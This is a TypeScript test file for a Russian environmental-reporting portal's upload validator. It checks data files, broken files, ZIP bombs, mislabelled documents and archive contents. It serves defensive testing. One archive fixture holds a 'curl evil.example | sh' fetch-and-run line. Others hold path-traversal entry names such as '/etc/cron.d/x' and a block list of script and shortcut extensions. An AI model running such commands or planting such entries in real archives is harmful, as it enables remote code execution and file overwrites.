import { readFileSync, truncateSync, writeFileSync } from 'node:fs'
import { afterAll, describe, expect, it } from 'vitest'
import { checkDataFile, MAX_PROBLEMS, type CheckedRow } from '../src/files/check-data-file.server.ts'
import { checkDocumentFile } from '../src/files/check-document-file.server.ts'
import type { RowContext } from '../src/files/check-row.ts'
import { uploadSpecOf } from '@portal/workflow-domain/registry.ts'
import { REPORT_TEMPLATES, renderTemplate } from '../src/templates/report-templates.server.ts'
import { sampledOn, tempFolder, writeCsv, writeSparseXlsx, writeXlsx, writeXlsxOfSheet, writeZip, writeZipBomb, writeZipOf, zipBytesOf, zipItem } from './support/fixture-files.ts'

const folder = tempFolder()
afterAll(() => folder.remove())

const observation = uploadSpecOf('observation_results')
const greenhouse = uploadSpecOf('greenhouse_gases')
const HEADER = observation.columns.map((c) => c.header)

const context: RowContext = {
  year: 2025,
  scope: 'на участке «Южный»',
  references: {
    measures_point: new Map([
      ['пн-1-01', { id: 11, kind: 'ambient_air' }],
      ['пн-1-03', { id: 13, kind: 'surface_water' }],
    ]),
    greenhouse_category: new Map([['стационарное сжигание топлива', { id: 1 }], ['транспорт', { id: 4 }]]),
  },
  today: new Date('2026-11-21T00:00:00Z'),
}

function goodRows(n: number): Array<Array<string | number>> {
  return Array.from({ length: n }, (_, i) =>
    i % 2 === 0
      ? ['ПН-1-01', 2025, '15.07.2025', 'Диоксид азота (NO2)', `0,0${i + 1}`, 'мг/м3', '0,2', '0,4']
      : ['ПН-1-03', 2025, '2025-08-01', 'Нефтепродукты', 0.01 * i, 'мг/дм3', 0.05, ''],
  )
}

async function check(file: string, spec = observation) {
  const staged: CheckedRow[] = []
  const result = await checkDataFile(file, spec, context, { onRows: async (rows) => void staged.push(...rows) })
  return { ...result, staged }
}

describe('checking a data file against its template', () => {
  it('accepts a UTF-8 CSV with semicolons and decimal commas, staging every row with typed values', async () => {
    const blank = ['', '', '', '', '', '', '', '']
    const result = await check(writeCsv(folder.file('good.csv'), [HEADER, ...goodRows(6), blank]))
    expect(result).toMatchObject({ ok: true, problems: [], rows: 6 })
    expect(result.staged).toHaveLength(6)
    expect(result.staged[0]).toEqual({
      number: 2,
      values: { measures_point_id: 11, year: 2025, sampled: '2025-07-15', name: 'Диоксид азота (NO2)', value: 0.01, measure: 'мг/м³', mpc: 0.2, mpc_max: 0.4 },
    })
    expect(result.staged[1].values).toMatchObject({ measures_point_id: 13, sampled: '2025-08-01', measure: 'мг/дм³', mpc_max: null })
  })

  it('reads a Windows-1251 CSV with commas as well as one with a byte-order mark', async () => {
    const cp1251 = await check(writeCsv(folder.file('cp1251.csv'), [HEADER, ...goodRows(3)], { encoding: 'win1251', delimiter: ',' }))
    expect(cp1251.ok).toBe(true)
    expect(cp1251.staged[0].values.name).toBe('Диоксид азота (NO2)')
    const bom = await check(writeCsv(folder.file('bom.csv'), [HEADER, ...goodRows(2)], { bom: true }))
    expect(bom.ok).toBe(true)
  })

  it('accepts an XLSX filled in from the downloaded template, dates and numbers as Excel stores them', async () => {
    const template = REPORT_TEMPLATES.find((t) => t.id === 'observation_results_ambient_air')!
    const blank = folder.file('template.xlsx')
    writeFileSync(blank, await renderTemplate(template, undefined, 2025))
    // The template as downloaded has its header and no data row: the example is on «Пояснения».
    const asDownloaded = await check(blank)
    expect(asDownloaded).toMatchObject({ ok: false, problems: [{ reason: 'в файле нет строк с данными' }], rows: 0 })
    const filled = await writeXlsx(folder.file('filled.xlsx'), [
      HEADER,
      ['ПН-1-01', 2025, new Date(Date.UTC(2025, 6, 15)), 'Сажа', 0.05, 'мг/м³', 0.15, 0.3],
      ['ПН-1-03', 2025, '01.08.2025', 'Фенолы', 0.0005, 'мг/дм³', 0.001, null],
    ])
    const result = await check(filled)
    expect(result).toMatchObject({ ok: true, rows: 2 })
    expect(result.staged.map((r) => r.values.sampled)).toEqual(['2025-07-15', '2025-08-01'])
  })

  it("refuses a header with missing, unknown and repeated columns as 'несоответствие полей', naming each", async () => {
    const header = [...HEADER.filter((h) => h !== 'Значение' && h !== 'ПДК'), 'Комментарий', 'Год']
    const result = await check(writeCsv(folder.file('header.csv'), [header, ...goodRows(2)]))
    expect(result.ok).toBe(false)
    expect(result.problems).toHaveLength(1)
    expect(result.problems[0].reason).toBe('несоответствие полей: нет столбцов «Значение», «ПДК»; неизвестные столбцы «Комментарий»; повторяются столбцы «Год»')
    expect(result.staged).toEqual([])
  })

  it('names the row, column, value and reason of every bad cell, and stages nothing', async () => {
    const rows = [
      HEADER,
      ...goodRows(2),
      ['ПН-1-01', 2024, '15.07.2025', 'NO2', 'много', 'мг/м³', '-1', ''],
      ['ПН-9-99', 2025, '31.02.2025', 'NO2', '0,1', 'мг/кг', '', ''],
      ['ПН-1-01', 2025, '', '', '0,1', 'мг/кг', '0,2', '0,1'],
      ['ПН-1-01', 2025, '', 'Я'.repeat(1001), '0,1', 'мг/м3', '', ''],
    ]
    const result = await check(writeCsv(folder.file('rows.csv'), rows))
    expect(result.ok).toBe(false)
    expect(result.staged).toEqual([])
    const byRow = (row: number) => result.problems.filter((p) => p.row === row).map((p) => [p.column, p.value, p.reason])
    expect(byRow(4)).toEqual([
      ['Значение', 'много', 'ожидается число'],
      ['ПДК', '-1', 'значение не может быть отрицательным'],
      ['Год', '2024', 'год не совпадает с годом отчёта (2025)'],
      ['Дата отбора', '15.07.2025', 'дата отбора не в отчётном году'],
    ])
    expect(byRow(5)).toEqual([
      ['Пункт наблюдения (номенклатура)', 'ПН-9-99', 'пункт наблюдения не найден на участке «Южный»'],
      ['Дата отбора', '31.02.2025', 'ожидается дата ДД.ММ.ГГГГ'],
    ])
    expect(byRow(6)).toEqual([
      ['Показатель', '', 'значение обязательно'],
      ['Единица измерения', 'мг/кг', 'единица измерения не подходит для пункта наблюдения этого вида'],
      ['ПДК максимальная', '0,1', 'ПДК максимальная меньше ПДК'],
    ])
    expect(byRow(7)).toEqual([['Показатель', 'Я'.repeat(100), 'текст длиннее 1000 знаков']])
  })

  it(`keeps the first ${MAX_PROBLEMS} problems and counts the rest`, async () => {
    const bad = Array.from({ length: 250 }, () => ['ПН-1-01', 2025, '', 'NO2', 'x', 'мг/м³', '', ''])
    const result = await check(writeCsv(folder.file('many.csv'), [HEADER, ...bad]))
    expect(result.problems).toHaveLength(MAX_PROBLEMS + 1)
    expect(result.problems.at(-1)).toEqual({ reason: 'и ещё ошибок: 150' })
  })

  it('checks greenhouse gases against the category reference and refuses negative masses', async () => {
    const header = greenhouse.columns.map((c) => c.header)
    const result = await check(
      writeCsv(folder.file('ghg.csv'), [
        header,
        [2025, 'Стационарное сжигание топлива', 100, 2, 0.1, 0, 0, 0, 0, 179.8],
        [2025, 'Транспорт', 5, 0, 0, 0, 0, 0, 0, 5],
      ]),
      greenhouse,
    )
    expect(result).toMatchObject({ ok: true, rows: 2 })
    expect(result.staged[1].values).toMatchObject({ greenhouse_category_id: 4, co2: 5 })
    const bad = await check(writeCsv(folder.file('ghg-bad.csv'), [header, [2025, 'Вулканы', -3, 0, 0, 0, 0, 0, 0, 0]]), greenhouse)
    expect(bad.problems.map((p) => p.reason)).toEqual(['нет в справочнике', 'значение не может быть отрицательным'])
  })
})

describe('findings in two levels: errors fail a file, warnings are kept beside it', () => {
  it('accepts a unit in another spelling and a value far above its limit, with a warning naming row, column and value', async () => {
    const rows = [
      ['ПН-1-01', 2025, '15.07.2025', 'Диоксид азота (NO2)', '0,05', 'мг/м³', '0,2', ''],
      ['ПН-1-01', 2025, '16.07.2025', 'Диоксид азота (NO2)', '0,05', 'мг/м3', '0,2', ''],
      ['ПН-1-01', 2025, '17.07.2025', 'Диоксид азота (NO2)', '4,2', 'мг/м³', '0,2', ''],
    ]
    const result = await check(writeCsv(folder.file('warnings.csv'), [HEADER, ...rows]))
    expect(result).toMatchObject({ ok: true, problems: [], rows: 3 })
    expect(result.staged).toHaveLength(3)
    const unit = observation.columns.find((c) => c.field === 'measure')!.header
    const value = observation.columns.find((c) => c.field === 'value')!.header
    expect(result.warnings).toEqual([
      { row: 3, column: unit, value: 'мг/м3', reason: 'единица «мг/м3» принята как «мг/м³»', level: 'warning' },
      { row: 4, column: value, value: '4,2', reason: `значение выше ПДК в 21 раз: проверьте единицу измерения и разделитель дробной части`, level: 'warning' },
    ])
  })

  it('keeps the warnings of a file that fails, apart from its errors, and stages nothing', async () => {
    const rows = [
      ['ПН-1-01', 2025, '15.07.2025', 'Диоксид азота (NO2)', 'много', 'мг/м3', '0,2', ''],
      ['ПН-1-01', 2025, '16.07.2025', 'Диоксид азота (NO2)', '4,2', 'мг/м³', '0,2', ''],
    ]
    const result = await check(writeCsv(folder.file('both.csv'), [HEADER, ...rows]))
    expect(result.ok).toBe(false)
    expect(result.staged).toEqual([])
    expect(result.problems.map((p) => [p.row, p.reason, p.level])).toEqual([[2, 'ожидается число', undefined]])
    expect(result.warnings.map((w) => [w.row, w.level])).toEqual([
      [2, 'warning'],
      [3, 'warning'],
    ])
  })

  it('says a unit written in another spelling once per column and spelling, so it never crowds out the rows’ own warnings', async () => {
    const rows = Array.from({ length: MAX_PROBLEMS + 50 }, (_, i) => ['ПН-1-01', 2025, sampledOn(2025, i), 'Сажа', '0,01', i % 2 ? 'мг/м3' : 'мг / м3', '0,15', ''])
    rows.push(['ПН-1-01', 2025, '31.12.2025', 'Диоксид азота (NO2)', '4,2', 'мг/м3', '0,2', ''])
    const result = await check(writeCsv(folder.file('one-spelling.csv'), [HEADER, ...rows]))
    expect(result).toMatchObject({ ok: true, problems: [], rows: MAX_PROBLEMS + 51 })
    const unit = observation.columns.find((c) => c.field === 'measure')!.header
    const value = observation.columns.find((c) => c.field === 'value')!.header
    expect(result.warnings).toEqual([
      { row: 2, column: unit, value: 'мг / м3', reason: 'единица «мг / м3» принята как «мг/м³»', level: 'warning' },
      { row: 3, column: unit, value: 'мг/м3', reason: 'единица «мг/м3» принята как «мг/м³»', level: 'warning' },
      { row: MAX_PROBLEMS + 52, column: value, value: '4,2', reason: 'значение выше ПДК в 21 раз: проверьте единицу измерения и разделитель дробной части', level: 'warning' },
    ])
  })

  it(`keeps the first ${MAX_PROBLEMS} warnings and counts the rest`, async () => {
    // Every row far above its limit: a warning of its own on each row.
    const rows = Array.from({ length: MAX_PROBLEMS + 20 }, (_, i) => ['ПН-1-01', 2025, sampledOn(2025, i), 'Сажа', '2', 'мг/м³', '0,15', ''])
    const result = await check(writeCsv(folder.file('many-warnings.csv'), [HEADER, ...rows]))
    expect(result.ok).toBe(true)
    expect(result.warnings).toHaveLength(MAX_PROBLEMS + 1)
    expect(result.warnings.at(-1)).toEqual({ reason: 'и ещё предупреждений: 20', level: 'warning' })
  })
})

describe('files that break a reader end as an error with a reason', () => {
  it('a 0-byte file', async () => {
    const file = folder.file('empty.csv')
    writeFileSync(file, '')
    expect((await check(file)).problems).toEqual([{ reason: 'файл пуст (0 байт)' }])
  })

  it('a CSV with a 1 MB line', async () => {
    const file = folder.file('long-line.csv')
    writeFileSync(file, `${HEADER.join(';')}\r\n${'x'.repeat(1024 * 1024)}\r\n`)
    const result = await check(file)
    expect(result.ok).toBe(false)
    expect(result.problems[0]).toEqual({ row: 2, reason: 'строка длиннее 64 КБ: это не строка таблицы' })
  })

  it('a truncated and a bit-flipped XLSX', async () => {
    const good = await writeXlsx(folder.file('to-break.xlsx'), [HEADER, ...goodRows(50)])
    const bytes = readFileSync(good)
    const flipped = folder.file('flipped.xlsx')
    const broken = Buffer.from(bytes)
    for (let i = 200; i < 260; i++) broken[i] ^= 0xff
    writeFileSync(flipped, broken)
    expect((await check(flipped)).problems[0].reason).toMatch(/^файл повреждён/)
    const truncated = folder.file('truncated.xlsx')
    writeFileSync(truncated, bytes)
    truncateSync(truncated, Math.floor(bytes.length / 2))
    expect((await check(truncated)).problems[0].reason).toMatch(/^(файл повреждён|ожидается таблица)/)
  })

  it('a ZIP bomb, whether it declares its size or lies about it', async () => {
    const honest = await check(writeZipBomb(folder.file('bomb.xlsx'), 64))
    expect(honest.problems[0].reason).toMatch(/ZIP-бомба/)
    const liar = await check(writeZipBomb(folder.file('liar.xlsx'), 64, true))
    expect(liar.problems[0].reason).toMatch(/распаковывается больше заявленного размера/)
  })

  it('a PDF or an old XLS where a table is expected', async () => {
    const pdf = folder.file('report.pdf')
    writeFileSync(pdf, '%PDF-1.7\n%...')
    expect((await check(pdf)).problems[0].reason).toBe('ожидается таблица XLSX или CSV, а файл — PDF')
    const xls = folder.file('old.xls')
    writeFileSync(xls, Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]))
    expect((await check(xls)).problems[0].reason).toMatch(/^формат XLS/)
  })
})

describe('checking a document report file by its real type', () => {
  it('accepts PDF, DOCX, XLSX, ZIP and DOC whatever their names say, when the extension fits', async () => {
    const pdf = folder.file('a.pdf')
    writeFileSync(pdf, '%PDF-1.4\n')
    const docx = writeZip(folder.file('a.docx'), [zipItem('[Content_Types].xml', Buffer.from('<Types/>')), zipItem('word/document.xml', Buffer.from('<w/>'))])
    const zip = writeZip(folder.file('a.zip'), [zipItem('readme.txt', Buffer.from('hello'))])
    const doc = folder.file('a.doc')
    writeFileSync(doc, Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 1, 2, 3]))
    const xlsx = await writeXlsx(folder.file('a.xlsx'), [['x']])
    for (const [file, name] of [[pdf, 'Итоговый отчёт.pdf'], [docx, 'Программа.docx'], [zip, 'Приложения.zip'], [doc, 'Отчёт.doc'], [xlsx, 'Таблица.xlsx'], [pdf, 'без расширения']]) {
      expect(await checkDocumentFile(file, name), name).toEqual({ ok: true, problems: [] })
    }
  })

  it('refuses an empty file, an executable and a DOCX renamed to .pdf', async () => {
    const empty = folder.file('empty.pdf')
    writeFileSync(empty, '')
    expect(await checkDocumentFile(empty, 'empty.pdf')).toEqual({ ok: false, problems: [{ reason: 'файл пуст (0 байт)' }] })
    const exe = folder.file('setup.pdf')
    writeFileSync(exe, Buffer.from('MZ\x90\x00\x03\x00\x00\x00'))
    expect((await checkDocumentFile(exe, 'setup.pdf')).problems[0].reason).toBe('недопустимый тип файла: ожидается PDF, DOC, DOCX, XLS, XLSX или ZIP')
    const docx = writeZip(folder.file('renamed.pdf'), [zipItem('[Content_Types].xml', Buffer.from('<Types/>')), zipItem('word/document.xml', Buffer.from('<w/>'))])
    expect((await checkDocumentFile(docx, 'Отчёт.pdf')).problems[0].reason).toBe('расширение .pdf не соответствует содержимому файла (DOCX)')
  })
})

describe('archives looked into: the rules of a single file for every entry', () => {
  const MZ = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00'), Buffer.alloc(200, 1)])
  const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(100)])
  const MACH_O = Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(100)])
  const refusal = async (contents: Record<string, Buffer | string>, name = 'Приложения.zip') => {
    const result = await checkDocumentFile(writeZipOf(folder.file(`archive-${Math.random().toString(16).slice(2)}.zip`), contents), name)
    expect(result.ok, JSON.stringify(Object.keys(contents))).toBe(false)
    return result.problems[0].reason
  }

  it('refuses a program inside under any name, in any letter case, and inside an archive inside', async () => {
    const cases: Array<[Record<string, Buffer | string>, string]> = [
      [{ 'Отчёт.pdf.exe': MZ }, 'Отчёт.pdf.exe'],
      [{ 'Отчёт.pdf': MZ }, 'Отчёт.pdf'],
      [{ 'docs/SETUP.EXE': MZ }, 'docs/SETUP.EXE'],
      [{ 'photo.jpg': ELF }, 'photo.jpg'],
      [{ 'notes.txt': MACH_O }, 'notes.txt'],
      [{ 'run.txt': '#!/bin/sh\ncurl evil.example | sh\n' }, 'run.txt'],
      [{ 'readme.txt': 'hello', 'inner.zip': zipBytesOf({ 'Отчёт.pdf': MZ }) }, 'inner.zip › Отчёт.pdf'],
    ]
    for (const [contents, entry] of cases) {
      expect(await refusal(contents)).toBe(`архив содержит исполняемую программу «${entry}»: такие файлы не принимаются`)
    }
  })

  it('refuses shortcuts and script files by their names whatever they hold', async () => {
    for (const entry of ['readme.lnk', 'README.LNK', 'Отчёт.pdf.lnk', 'start.bat', 'update.PS1', 'macro.vbs', 'a/b/run.cmd', 'page.hta', 'tool.jar', 'install.msi', 'screen.scr']) {
      expect(await refusal({ [entry]: 'harmless text' })).toBe(`архив содержит исполняемую программу или ярлык «${entry}»: такие файлы не принимаются`)
    }
  })

  it('refuses absolute and parent paths, with either slash and a drive letter', async () => {
    for (const entry of ['../../x', '/etc/cron.d/x', 'a/../../x', '..\\..\\x', 'C:/Windows/x', 'c:\\x', '\\\\server\\share\\x']) {
      expect(await refusal({ 'readme.txt': 'hello', [entry]: 'x' })).toMatch(/^архив содержит путь за пределы архива «.+»: такие архивы не принимаются$/)
    }
  })

  it('looks into DOCX and XLSX containers too, and still accepts an honest archive of documents', async () => {
    const docx = await checkDocumentFile(writeZipOf(folder.file('macro.docx'), { '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w/>', 'word/embeddings/tool.bin': MZ }), 'Отчёт.docx')
    expect(docx.problems[0]?.reason).toBe('архив содержит исполняемую программу «word/embeddings/tool.bin»: такие файлы не принимаются')
    const honest = writeZipOf(folder.file('honest.zip'), { 'Отчёт.pdf': '%PDF-1.4\n', 'Приложения/Протокол №1.pdf': '%PDF-1.4\n', 'Таблица.csv': 'a;b\r\n', 'inner.zip': zipBytesOf({ 'Фото.jpg': Buffer.from([0xff, 0xd8, 0xff, 0xe0]) }) })
    expect(await checkDocumentFile(honest, 'Приложения.zip')).toEqual({ ok: true, problems: [] })
  })

  it('ends a sparse XLSX with one cell at XFD1048576, however its sheet is written, with a clear Russian error', async () => {
    const header = Object.fromEntries(HEADER.map((h, i) => [`${String.fromCharCode(65 + i)}1`, h]))
    const files = {
      'one cell': writeSparseXlsx(folder.file('sparse.xlsx'), { XFD1048576: 1 }),
      'a header and the cell': writeSparseXlsx(folder.file('sparse-header.xlsx'), { ...header, XFD1048576: 1 }),
      'rows and cells without addresses': writeXlsxOfSheet(folder.file('no-r.xlsx'), '<sheetData><row><c><v>1</v></c></row></sheetData>'),
      'a cell without its row number': writeXlsxOfSheet(folder.file('no-row-r.xlsx'), '<sheetData><row><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
      'a cell past the last column and row': writeXlsxOfSheet(folder.file('beyond.xlsx'), '<sheetData><row r="1048577"><c r="XFE1048577"><v>1</v></c></row></sheetData>'),
      'a declared dimension to the last cell': writeXlsxOfSheet(folder.file('dimension.xlsx'), '<dimension ref="A1:XFD1048576"/><sheetData><row r="1048576"><c r="XFD1048576" t="s"><v>0</v></c></row></sheetData>'),
    }
    for (const [what, file] of Object.entries(files)) {
      const result = await check(file)
      expect(result.ok, what).toBe(false)
      expect(result.problems[0].reason, what).toMatch(/^[А-Яа-яЁё](?:[А-Яа-яЁё0-9 ,.:;«»()–—\u00a0-]|XLSX|XFD|Excel)*$/)
    }
  })
})
